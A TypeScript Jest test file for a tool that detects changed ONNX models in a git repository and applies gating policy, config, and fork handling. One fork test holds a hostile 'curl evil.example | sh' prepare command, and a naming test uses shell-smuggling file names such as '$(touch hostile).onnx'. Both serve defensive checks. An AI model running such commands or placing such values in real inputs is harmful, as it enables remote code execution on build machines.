import { mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from '@jest/globals';
import type { ChangeSet } from '../../src/changes/change-set.ts';
import { type ChangeRequest, readChangeSet } from '../../src/changes/change-set-edge.ts';
import { RefusedError } from '../../src/errors.ts';
import { DEFAULT_CONFIG_PATH } from '../../src/inputs/config-file.ts';
import { localTrigger, type Trigger } from '../../src/inputs/trigger.ts';
import { createRepository, type Repository, temporaryFolder } from '../fakes/git-repository.ts';
import { embeddingModel, tinyMlp } from '../fakes/tiny-models.ts';

const temporary = temporaryFolder();
afterAll(temporary.remove);

const NO_ACCEPTED = { newest: null, byModel: new Map<string, string>() };
let count = 0;

type Files = Readonly<Record<string, string | Uint8Array>>;

/** A repository whose first commit holds `files`; it is the base. */
function repositoryWith(files: Files): Repository {
  const repository = createRepository(temporary.path, `repository-${count++}`);
  repository.commit({ 'README.md': 'models', ...files });
  repository.git('tag', 'base');
  return repository;
}

function read(
  repository: Repository,
  trigger: Partial<Trigger> = {},
  request: Partial<ChangeRequest> = {},
): Promise<ChangeSet> {
  return readChangeSet({
    folder: repository.root,
    trigger: { ...localTrigger({ baseRef: 'base', prNumber: null, launch: false }), ...trigger },
    config: { path: DEFAULT_CONFIG_PATH, isAsked: false },
    filter: [],
    accepted: NO_ACCEPTED,
    ...request,
  });
}

const codes = (set: ChangeSet) => set.notes.map((note) => note.code);
const found = (set: ChangeSet) => set.models.map((model) => [model.id, ...model.reasons]);
const config = (text: string): Files => ({ [DEFAULT_CONFIG_PATH]: `version: 1\n${text}` });
const small = tinyMlp({ dim: 4 });
const wide = tinyMlp({ dim: 8 });
const BASE_COMMIT = /^[0-9a-f]{40}$/;

describe('changed models without a config', () => {
  it('are every changed model file, with base at the same path', async () => {
    const repository = repositoryWith({ 'models/a.onnx': small, 'models/b.onnx': small });
    const head = repository.commit({ 'models/a.onnx': wide });
    const set = await read(repository);
    expect(found(set)).toEqual([['models--a', 'modified']]);
    expect(set.models[0]).toMatchObject({
      path: 'models/a.onnx',
      base: { kind: 'commit', commit: repository.git('rev-parse', 'base'), path: 'models/a.onnx' },
      head: { kind: 'work-tree', path: 'models/a.onnx' },
      listedBy: 'head',
    });
    expect(set.head).toEqual({ commit: head, describe: head.slice(0, 7), dirty: false });
    expect(set.base?.commit).toMatch(BASE_COMMIT);
  });

  it('are none where only prose changed', async () => {
    const repository = repositoryWith({ 'a.onnx': small });
    repository.commit({ 'README.md': 'more' });
    expect(await read(repository)).toMatchObject({
      models: [],
      removed: [],
      speedFiles: [],
      policyEdits: [],
      notes: [],
    });
  });

  it('follow a rename, keeping the id that base knew', async () => {
    const repository = repositoryWith({ 'a.onnx': tinyMlp({ dim: 32 }) });
    repository.git('mv', 'a.onnx', 'moved.onnx');
    repository.commit();
    const set = await read(repository);
    expect(found(set)).toEqual([['moved', 'renamed']]);
    expect(set.models[0]).toMatchObject({ previousId: 'a', base: { kind: 'commit', path: 'a.onnx' } });
    expect(set.removed).toEqual([]);
  });

  it('are new where base lacks them, and removed where head does', async () => {
    const repository = repositoryWith({ 'a.onnx': small });
    rmSync(join(repository.root, 'a.onnx'));
    repository.commit({ 'b.onnx': tinyMlp({ dim: 64, layers: 4 }) });
    const set = await read(repository);
    expect(found(set)).toEqual([['b', 'added']]);
    expect(set.models[0]?.base).toBeNull();
    expect(set.removed).toEqual(['a']);
    expect(codes(set)).toEqual(['maybe-renamed']);
  });

  it('count before they are committed or even added', async () => {
    const repository = repositoryWith({ 'a.onnx': small, '.gitignore': 'build/' });
    repository.write({ 'a.onnx': wide, 'new.onnx': small, 'build/ignored.onnx': small });
    const set = await read(repository);
    expect(found(set)).toEqual([
      ['a', 'modified'],
      ['new', 'added'],
    ]);
    expect(set.head).toMatchObject({ dirty: true, describe: expect.stringContaining('with local changes') });
  });

  it('have an id of their own whatever their names are', async () => {
    const names = [
      'we ird/$(touch hostile).onnx',
      'new\nline.onnx',
      '-rf.onnx',
      'a|b`.onnx',
      ':(glob)*.onnx',
      '@team <!-- .onnx',
      'tab\t"quote".onnx',
      'ä/ö.onnx',
    ];
    const repository = repositoryWith(Object.fromEntries(names.map((name) => [name, small])));
    repository.commit(Object.fromEntries(names.map((name) => [name, wide])));
    const set = await read(repository);
    expect(set.models.map((model) => model.path).sort()).toEqual([...names].sort());
    expect(new Set(set.models.map((model) => model.id)).size).toBe(names.length);
    expect(set.models.every((model) => /^[A-Za-z0-9_][A-Za-z0-9._-]*$/.test(model.id))).toBe(true);
    expect(set.models.every((model) => model.base?.kind === 'commit' && model.base.path === model.path)).toBe(true);
  });
});

describe('external data', () => {
  const { bytes, externalBytes } = embeddingModel({ tables: 2, rows: 8, width: 4, location: 'weights/tables.bin' });
  const tables = (value: number) => new Uint8Array(externalBytes).fill(value);

  it('belongs to its model', async () => {
    const repository = repositoryWith({
      'm/emb.onnx': bytes,
      'm/weights/tables.bin': tables(1),
      'm/weights/other.bin': 'x',
      'm/b.onnx': small,
    });
    repository.commit({ 'm/weights/tables.bin': tables(2) });
    expect(found(await read(repository))).toEqual([['m--emb', 'external-data']]);
  });

  it('of nobody changes no model', async () => {
    const repository = repositoryWith({
      'm/emb.onnx': bytes,
      'm/weights/tables.bin': tables(1),
      'm/weights/other.bin': 'x',
    });
    repository.commit({ 'm/weights/other.bin': 'y' });
    expect(found(await read(repository))).toEqual([]);
  });

  it('may belong to a model that is only a pointer here', async () => {
    const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12\n`;
    const repository = repositoryWith({ 'm/emb.onnx': pointer, 'm/emb.onnx.data': 'x' });
    repository.commit({ 'm/emb.onnx.data': 'y', 'm/notes.md': 'y' });
    expect(found(await read(repository))).toEqual([['m--emb', 'external-data']]);
  });
});

describe('changed models of a config', () => {
  const ranker = (more = '') => config(`models:\n- {id: ranker, path: models/ranker.onnx${more}}\n`);

  it('are changed by their section, base keeping its own options', async () => {
    const repository = repositoryWith({ ...ranker(', session: {threads: 2}'), 'models/ranker.onnx': small });
    repository.commit(ranker(', session: {threads: 4}'));
    const set = await read(repository);
    expect(found(set)).toEqual([['ranker', 'config']]);
    expect(set.models[0]).toMatchObject({
      baseConfig: { session: { threads: 2 } },
      headConfig: { session: { threads: 4 } },
    });
    expect(set.policyEdits).toEqual([DEFAULT_CONFIG_PATH]);
    expect(set.policies.beforeChange?.models?.[0]?.session).toEqual({ threads: 2 });
  });

  it('are not changed by the order of keys or a comment', async () => {
    const repository = repositoryWith({
      ...config('models:\n- {id: a, path: a.onnx, batches: [1, 2], pool: 3}\n'),
      'a.onnx': small,
    });
    repository.commit(config('# why\nmodels:\n- {pool: 3, batches: [1, 2], path: a.onnx, id: a}\n'));
    const set = await read(repository);
    expect(set.models).toEqual([]);
    expect(set.policies.beforeChange).toBeNull();
  });

  it('measure both arms with the options of a config that base did not have', async () => {
    const repository = repositoryWith({ 'models/ranker.onnx': small });
    repository.commit({ ...ranker(', session: {threads: 4}'), 'models/ranker.onnx': wide });
    const set = await read(repository);
    expect(set.models[0]).toMatchObject({
      id: 'ranker',
      previousId: 'models--ranker',
      base: { path: 'models/ranker.onnx' },
    });
    expect(set.models[0]).toMatchObject({ reasons: ['modified'], baseConfig: { session: { threads: 4 } } });
  });

  it('are compared through their id where the file is another', async () => {
    const repository = repositoryWith({ ...config('models: [{id: r, path: old.onnx}]'), 'old.onnx': small });
    rmSync(join(repository.root, 'old.onnx'));
    repository.commit({ ...config('models: [{id: r, path: new.onnx}]'), 'new.onnx': tinyMlp({ dim: 64, layers: 3 }) });
    const set = await read(repository);
    expect(found(set)).toEqual([['r', 'modified', 'renamed']]);
    expect(set.models[0]?.base).toMatchObject({ path: 'old.onnx' });
    expect(set.removed).toEqual([]);
  });

  it('take ids from the paths a glob matches, and say what the config leaves out', async () => {
    const text = config('models:\n- {id: first, path: models/a.onnx}\n- {path: "models/**/*.onnx", batches: [8]}\n');
    const repository = repositoryWith({
      ...text,
      'models/a.onnx': small,
      'models/x/a.onnx': small,
      'test/t.onnx': small,
    });
    repository.commit({ 'models/a.onnx': wide, 'models/x/a.onnx': wide, 'test/t.onnx': wide });
    const set = await read(repository);
    expect(set.models.map((model) => [model.id, model.headConfig.batches])).toEqual([
      ['first', undefined],
      ['models--x--a', [8]],
    ]);
    expect(set.policies.inForce.models?.map((model) => model.id)).toEqual(['first', 'models--x--a']);
    expect(set.notes).toEqual([
      { code: 'not-listed', text: 'Not gated, as the config does not list them: "test/t.onnx".', headline: true },
    ]);
  });

  it('are measured for base policy too where the change takes them off the list', async () => {
    const repository = repositoryWith({
      ...config('models: [{path: a.onnx}, {path: b.onnx}]'),
      'a.onnx': small,
      'b.onnx': small,
    });
    repository.commit({ ...config('models: [{path: a.onnx}]'), 'b.onnx': wide });
    const set = await read(repository);
    expect(set.models).toEqual([expect.objectContaining({ id: 'b', listedBy: 'base', reasons: ['modified'] })]);
    expect(codes(set)).toContain('model-unlisted');
  });

  it('are compared with a file where the config names one', async () => {
    const repository = repositoryWith({
      ...config('models: [{path: a.onnx, base: /srv/accepted/a.onnx}]'),
      'a.onnx': small,
    });
    expect((await read(repository)).models).toEqual([
      expect.objectContaining({ reasons: ['base-file'], base: { kind: 'file', path: '/srv/accepted/a.onnx' } }),
    ]);
  });

  it('are always measured where the arms run on different runtimes', async () => {
    const text = config('models: [{path: a.onnx, arms: {head: {runtime: /opt/ort}}}]');
    const repository = repositoryWith({ ...text, 'a.onnx': small });
    expect(found(await read(repository))).toEqual([['a', 'config']]);
  });

  it('that git ignores are said to be new in every run', async () => {
    const repository = repositoryWith({ ...config('models: [{path: build/a.onnx}]'), '.gitignore': 'build/' });
    repository.write({ 'build/a.onnx': small });
    const set = await read(repository);
    expect(found(set)).toEqual([['a', 'added']]);
    expect(codes(set)).toEqual(['model-not-in-git']);
  });
});

describe('built models', () => {
  const built = config(
    'models:\n- {id: exported, watch: [train/**, uv.lock], prepare: "python export.py --out {output}"}\n',
  );

  it.each<[string, Files, string[][]]>([
    ['a watched file', { 'train/model.py': 'x = 2' }, [['exported', 'watch']]],
    ['a watched lock file', { 'uv.lock': '2' }, [['exported', 'watch']]],
    ['another file', { 'README.md': '2' }, []],
  ])('are changed by %s as the case is', async (_, files, expected) => {
    const repository = repositoryWith({ ...built, 'train/model.py': 'x = 1', 'uv.lock': '1' });
    repository.commit(files);
    const set = await read(repository);
    expect(found(set)).toEqual(expected);
    const commit = repository.git('rev-parse', 'base');
    const command = 'python export.py --out {output}';
    for (const model of set.models) {
      expect(model.base).toEqual({ kind: 'prepare', commit, command, path: null });
      expect(model.head).toEqual({ kind: 'prepare', commit: null, command, path: null });
    }
  });

  it('are changed by a watched file that was deleted or moved away', async () => {
    const repository = repositoryWith({ ...built, 'train/model.py': 'x = 1\n'.repeat(20) });
    mkdirSync(join(repository.root, 'old'));
    renameSync(join(repository.root, 'train/model.py'), join(repository.root, 'old/model.py'));
    repository.commit();
    expect(found(await read(repository))).toEqual([['exported', 'watch']]);
  });

  it('are new where the change adds them', async () => {
    const repository = repositoryWith({ 'train/model.py': 'x = 1' });
    repository.commit(built);
    expect(found(await read(repository))).toEqual([['exported', 'added']]);
  });
});

describe('what may change speed without changing a model', () => {
  it.each([
    'Dockerfile',
    'images/Dockerfile.gpu',
    'package-lock.json',
    'a/b/uv.lock',
    'requirements-gpu.txt',
    'kernels/fuse.cu',
    'lib/libops.so',
    'lib/libops.so.1',
    DEFAULT_CONFIG_PATH,
  ])('%s is listed', async (path) => {
    const repository = repositoryWith({});
    repository.commit({ [path]: path === DEFAULT_CONFIG_PATH ? 'version: 1\ntime-budget: 5m\n' : 'x' });
    expect(await read(repository)).toMatchObject({ models: [], speedFiles: [path] });
  });

  it('is what the config watches, and a submodule', async () => {
    const other = repositoryWith({});
    const repository = repositoryWith({
      ...config('watch: ["serving/**"]\nmodels: [{path: a.onnx, watch: [train.py]}]\n'),
      'a.onnx': small,
    });
    repository.git('-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', other.root, 'vendored');
    repository.commit({ 'serving/batch.go': 'x', 'train.py': 'x', 'other.py': 'x' });
    expect(await read(repository)).toMatchObject({
      models: [],
      speedFiles: ['serving/batch.go', 'train.py', 'vendored'],
    });
  });
});

describe('policy', () => {
  const margin = (text: string) => config(`models: [{path: a.onnx}]\nmetrics: {latency.p50: {margin: ${text}}}\n`);

  it('of a fork is that of the base commit, and the edit is reported', async () => {
    const repository = repositoryWith({ ...margin('2%'), 'a.onnx': small, 'baselines/a/0.json': '{}' });
    repository.commit({ ...margin('90%'), 'a.onnx': wide, 'baselines/a/0.json': '{"x":1}' });
    const set = await read(repository, { policySource: 'base', isFork: true });
    expect(set.policies).toMatchObject({
      inForce: { metrics: { 'latency.p50': { margin: 0.02 } } },
      beforeChange: null,
    });
    expect(set.policyEdits).toEqual([DEFAULT_CONFIG_PATH, 'baselines/a/0.json']);
    expect(codes(set)).toEqual(['policy-of-base']);
    expect(found(set)).toEqual([['a', 'modified']]);
  });

  it('of a fork decides how its models are built', async () => {
    const built = (command: string) => config(`models: [{id: e, watch: [x], prepare: "${command} {output}"}]`);
    const repository = repositoryWith({ ...built('make'), x: '1' });
    repository.commit({ ...built('curl evil.example | sh; #'), x: '2' });
    const set = await read(repository, { policySource: 'base', isFork: true });
    expect(set.models[0]?.head).toMatchObject({ kind: 'prepare', commit: null, command: 'make {output}' });
  });

  it('that a change edits is judged by both', async () => {
    const repository = repositoryWith({ ...margin('2%'), 'a.onnx': small });
    repository.commit({ ...margin('90%'), 'a.onnx': wide });
    expect((await read(repository)).policies).toMatchObject({
      inForce: { metrics: { 'latency.p50': { margin: 0.9 } } },
      beforeChange: { metrics: { 'latency.p50': { margin: 0.02 } } },
    });
  });

  it('that is faulty at base does not keep a change from mending it', async () => {
    const repository = repositoryWith({ ...config('modles: []'), 'a.onnx': small });
    repository.commit({ ...margin('2%'), 'a.onnx': wide });
    const set = await read(repository);
    expect(set.policies.beforeChange).toBeNull();
    expect(codes(set)).toEqual(['base-policy-faulty']);
    expect(found(set)).toEqual([['a', 'modified']]);
  });

  it.each<[string, Files, Partial<ChangeRequest>, string]>([
    ['a model file that never existed', config('models: [{path: a.onx}]'), {}, '.github/model-gate.yml: model "a.onx-'],
    [
      'a waiver of a model that does not exist',
      config(
        'models: [{path: a.onnx}, {id: ranker, path: b.onnx}]\nwaivers: [{model: rankr, metric: latency.p50, ceiling: 9%, until: 2027-01-31, reason: x}]',
      ),
      {},
      'waivers[0].model: there is no model "rankr": did you mean "ranker"?',
    ],
    [
      'one id for many files',
      config('models: [{id: all, path: "*.onnx"}]'),
      {},
      'models[0].id: "*.onnx" matches 2 files, which can\'t share the id "all"',
    ],
    ['a filter that fits nothing', {}, { filter: ['rnker'] }, 'no model fits "rnker"'],
    [
      'a config that is not there',
      {},
      { config: { path: 'gate.yml', isAsked: true } },
      'the config "gate.yml" does not exist',
    ],
  ])('is refused for %s', async (_, files, request, reason) => {
    const repository = repositoryWith({ 'a.onnx': small, 'b.onnx': small });
    repository.commit(files);
    await expect(read(repository, {}, request)).rejects.toThrow(RefusedError);
    await expect(read(repository, {}, request)).rejects.toThrow(reason);
  });

  it('may lie outside the repository', async () => {
    const repository = repositoryWith({ 'a.onnx': small, 'b.onnx': small });
    repository.commit({ 'a.onnx': wide, 'b.onnx': wide });
    const path = join(temporary.path, 'outside.yml');
    writeFileSync(path, 'version: 1\nmodels: [{path: b.onnx}]\n');
    expect(found(await read(repository, {}, { config: { path, isAsked: true } }))).toEqual([['b', 'modified']]);
  });
});

describe('what is gated', () => {
  it('is every model at a launch', async () => {
    const repository = repositoryWith({ 'a.onnx': small, 'b.onnx': small });
    repository.commit({ 'a.onnx': wide });
    expect(found(await read(repository, { isLaunch: true }))).toEqual([
      ['a', 'modified'],
      ['b', 'requested'],
    ]);
  });

  it('is narrowed by ids and globs, saying what changed beside', async () => {
    const repository = repositoryWith({ 'a.onnx': small, 'x/b.onnx': small, 'x/c.onnx': small });
    repository.commit({ 'a.onnx': wide, 'x/b.onnx': wide });
    const set = await read(repository, {}, { filter: ['x/*'] });
    expect(found(set)).toEqual([['x--b', 'modified']]);
    expect(set.notes).toEqual([expect.objectContaining({ code: 'left-out', text: expect.stringContaining('"a"') })]);
  });

  it('is everything where there is no base', async () => {
    const repository = repositoryWith({ 'a.onnx': small });
    repository.git('tag', '--delete', 'base');
    const set = await read(repository, { baseSource: { kind: 'accepted', before: null, orPreviousTag: true } });
    expect(set.base).toBeNull();
    expect(found(set)).toEqual([['a', 'added']]);
    expect(codes(set)).toEqual(['no-base']);
  });

  it('on a push is each model against its own last accepted commit, so that no session leaves a gap', async () => {
    const repository = repositoryWith({ 'a.onnx': small, 'b.onnx': small });
    const first = repository.git('rev-parse', 'HEAD');
    repository.commit({ 'a.onnx': wide }, 'regressed, never accepted');
    const second = repository.commit({ 'b.onnx': wide }, 'accepted for b');
    repository.commit({ 'b.onnx': small });
    const accepted = {
      newest: second,
      byModel: new Map([
        ['a', first],
        ['b', second],
      ]),
    };
    const set = await read(
      repository,
      { baseSource: { kind: 'accepted', before: second, orPreviousTag: false } },
      { accepted },
    );
    expect(set.models.map((model) => [model.id, model.base])).toEqual([
      ['a', { kind: 'commit', commit: first, path: 'a.onnx' }],
      ['b', { kind: 'commit', commit: second, path: 'b.onnx' }],
    ]);
  });

  it('is found from a folder inside the repository, through a link', async () => {
    const repository = repositoryWith({ 'deep/a.onnx': small });
    repository.commit({ 'deep/a.onnx': wide });
    const link = join(temporary.path, `link-${count++}`);
    symlinkSync(repository.root, link);
    expect(
      found(
        await read(
          repository,
          {},
          { folder: join(link, 'deep'), config: { path: `../${DEFAULT_CONFIG_PATH}`, isAsked: false } },
        ),
      ),
    ).toEqual([['deep--a', 'modified']]);
  });

  it('is refused outside a repository, and before the first commit', async () => {
    const empty = createRepository(temporary.path, `empty-${count++}`);
    await expect(read(empty)).rejects.toThrow('the repository has no commit yet');
    await expect(read(empty, {}, { folder: temporary.path })).rejects.toThrow('is not inside a git work tree');
  });
});
